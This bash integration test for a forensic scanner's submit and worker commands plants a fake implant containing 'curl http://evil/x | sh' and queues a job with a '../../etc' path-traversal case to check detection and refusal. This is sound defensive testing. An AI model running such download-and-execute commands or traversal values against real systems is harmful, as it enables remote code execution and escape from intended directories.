#!/bin/bash
# t6000: deltair submit + deltair worker on a spool folder, end to end. A submitted job's
# results (events.jsonl.gz, summary.json, extracted/, COMPLETE) are those of `deltair scan -x`
# of the same image (the oracle: the events decompressed with zcat, equal but for the
# summary's elapsed time; the extracted files equal by sha256sum); COMPLETE names every other
# object with its sha256sum. A redelivered job whose COMPLETE exists is acknowledged without
# running again (results untouched). A malformed job lands in failed/ with a reason, claimed
# once, never retried; so does one naming a case that would climb out of the output. --once
# exits 0 when the queue is empty. submit refuses what the worker would refuse (exit 2).
. "$TOP/tests/cli/lib.sh"
need mke2fs jq sha256sum zcat

mkdir -p gold/etc gold/bin gold/var/log
printf 'host-a\n' > gold/etc/hostname
head -c 100000 /dev/urandom > gold/bin/tool
for i in $(seq 1 40); do printf 'line %d\n' "$i"; done > gold/var/log/app.log
t_gold_incident gold 16M
printf 'host-b\n' > mnt/etc/hostname
printf 'line 41\n' >> mnt/var/log/app.log
printf '#!/bin/sh\ncurl http://evil/x | sh\n' > mnt/bin/implant
chmod 755 mnt/bin/implant
sync
_t_umount mnt 2> /dev/null || umount mnt

# The oracle: a plain scan of the same image with the same options.
dt scan --no-progress --baseline "$PWD/gold.dtree" -x plain-x -o plain.jsonl "$PWD/incident.img"
[ "$rc" -le 1 ] || die "deltair scan: rc $rc: $(cat err)"

dt submit --queue spool:sp --case IR-7 --baseline gold.dtree --output res incident.img
expect_rc 0 "submit" || die "submit failed: $(cat err)"
id=$(cat out)
[ -f "sp/incoming/$id" ] || die "submit printed '$id' but sp/incoming/ holds: $(ls -A sp/incoming)"
jq -e --arg p "$PWD/incident.img" '.version == 1 and .evidence == $p and .case == "IR-7"' \
	"sp/incoming/$id" > /dev/null || fail "the queued job is not as submitted: $(cat "sp/incoming/$id")"

start=$(date +%s)
dt worker --queue spool:sp --once --host test-host
expect_rc 0 "worker --once"
[ $(($(date +%s) - start)) -le 30 ] || fail "worker --once took more than 30 s"
R=res/IR-7/incident.img
[ -f "sp/done/$id" ] || fail "the job is not in done/: $(find sp -type f)"
[ -z "$(find sp/incoming sp/processing sp/failed -type f)" ] || fail "spool not empty: $(find sp -type f)"
for f in COMPLETE events.jsonl.gz summary.json extracted/manifest.jsonl extracted/COMPLETE; do
	[ -f "$R/$f" ] || fail "no $R/$f"
done
# Every log line is one JSON object with ts, level, stage.
jq -e -s 'all(.[]; has("ts") and has("level") and has("stage"))' err > /dev/null ||
	fail "stderr is not JSON log lines: $(head -5 err)"
jq -e -s --arg id "$id" 'any(.[]; .stage == "done" and .job == $id and .case == "IR-7")' err \
	> /dev/null || fail "no done log line for the job: $(cat err)"

# Events: the scan's, but for the summary's elapsed time.
norm() { jq -c 'if .event == "summary" then del(.elapsed) else . end'; }
zcat "$R/events.jsonl.gz" | norm > worker.norm || fail "events.jsonl.gz is not gzip"
norm < plain.jsonl > plain.norm
cmp -s worker.norm plain.norm || fail "worker events differ from deltair scan's: $(diff worker.norm plain.norm | head -6)"
grep -q '"path":"/bin/implant"' worker.norm || fail "the implant is not in the events"

# Extracted files: the scan's, byte for byte.
(cd plain-x && find . -type f ! -name COMPLETE -exec sha256sum {} + | sort -k2) > plain.sums
(cd "$R/extracted" && find . -type f ! -name COMPLETE -exec sha256sum {} + | sort -k2) > worker.sums
cmp -s plain.sums worker.sums || fail "extracted files differ: $(diff plain.sums worker.sums | head -4)"
[ "$(wc -l < worker.sums)" -ge 4 ] || fail "too few extracted files: $(cat worker.sums)"

# COMPLETE: every other object with its SHA-256, checked with sha256sum.
jq -e --arg id "$id" '.job == $id and .case == "IR-7" and .host == "test-host"' "$R/COMPLETE" \
	> /dev/null || fail "COMPLETE: $(cat "$R/COMPLETE")"
check_complete "$R"

# summary.json: the scan's summary event plus the worker's record.
jq -e --arg id "$id" '.event == "summary" and .delta == (.counts | add) and .worker.job == $id
	and .worker.host == "test-host" and .worker.scan_exit == 1 and .worker.receive_count == 1
	and .job_spec.case == "IR-7"' "$R/summary.json" > /dev/null ||
	fail "summary.json: $(head -c 600 "$R/summary.json")"
jq -c 'del(.elapsed)' < <(grep '"event":"summary"' plain.jsonl) > a.json
jq -c 'del(.elapsed, .worker, .job_spec)' "$R/summary.json" > b.json
cmp -s a.json b.json || fail "summary.json is not the scan's summary: $(diff a.json b.json)"
# Folders 0700, files 0600.
[ -z "$(find res -type d ! -perm 0700)" ] || fail "folders not 0700: $(find res -type d ! -perm 0700)"
[ -z "$(find res -type f ! -perm 0600)" ] || fail "files not 0600: $(find res -type f ! -perm 0600)"

# Redelivery of a finished job (the same job again): acknowledged, nothing rewritten.
stat -c '%i %Y' "$R/COMPLETE" "$R/events.jsonl.gz" > before
cp "sp/done/$id" "sp/incoming/$id"
dt worker --queue spool:sp --once
expect_rc 0 "worker --once (redelivery)"
grep -q '"stage":"done","msg":"results already complete' err || fail "no 'already complete' log: $(cat err)"
grep -q '"stage":"scan"' err && fail "a redelivered complete job was scanned again"
stat -c '%i %Y' "$R/COMPLETE" "$R/events.jsonl.gz" > after
cmp -s before after || fail "a redelivered complete job rewrote its results"
[ -f "sp/done/$id" ] && [ -z "$(ls -A sp/incoming)" ] || fail "the redelivery was not acknowledged"

# Malformed jobs: failed/ with the reason, claimed once; never in results.
printf '{"version":1,"evidence":"/x","basline":"/g"}' > sp/incoming/bad-key
printf 'not json' > sp/incoming/bad-json
printf '{"version":1,"case":"../../etc","evidence":"%s/incident.img","baseline":"%s/gold.dtree","output":"%s/res"}' \
	"$PWD" "$PWD" "$PWD" > sp/incoming/bad-case
dt worker --queue spool:sp --once --output res --baseline gold.dtree
expect_rc 0 "worker --once (malformed)"
for j in bad-key bad-json bad-case; do
	[ -f "sp/failed/$j" ] || fail "$j is not in failed/: $(find sp -type f)"
	[ -f "sp/failed/$j.reason" ] || { fail "no failed/$j.reason"; continue; }
	grep -q '(after 1 claim)' "sp/failed/$j.reason" || fail "$j was claimed more than once: $(cat "sp/failed/$j.reason")"
done
grep -q "unknown key 'basline'" sp/failed/bad-key.reason || fail "bad-key reason: $(cat sp/failed/bad-key.reason)"
grep -q "not JSON" sp/failed/bad-json.reason || fail "bad-json reason: $(cat sp/failed/bad-json.reason)"
grep -q "'case'" sp/failed/bad-case.reason || fail "bad-case reason: $(cat sp/failed/bad-case.reason)"
[ ! -e etc ] && [ ! -e res/etc ] && [ "$(ls res)" = IR-7 ] || fail "a malformed job wrote results: $(ls -R res | head)"

# submit refuses what a worker would refuse, and writes nothing.
for args in "--case ../x" "--read-mode attach" "--region US"; do
	# shellcheck disable=SC2086
	dt submit --queue spool:sp2 $args incident.img
	expect_rc 2 "submit $args"
done
dt submit --case x incident.img
expect_rc 2 "submit without --queue"
dt worker --output res
expect_rc 2 "worker without --queue"
dt worker --queue kafka://x --once
expect_rc 2 "worker with an unknown queue"
[ ! -e sp2/incoming ] || [ -z "$(ls -A sp2/incoming)" ] || fail "a refused submit queued a job"
t_done
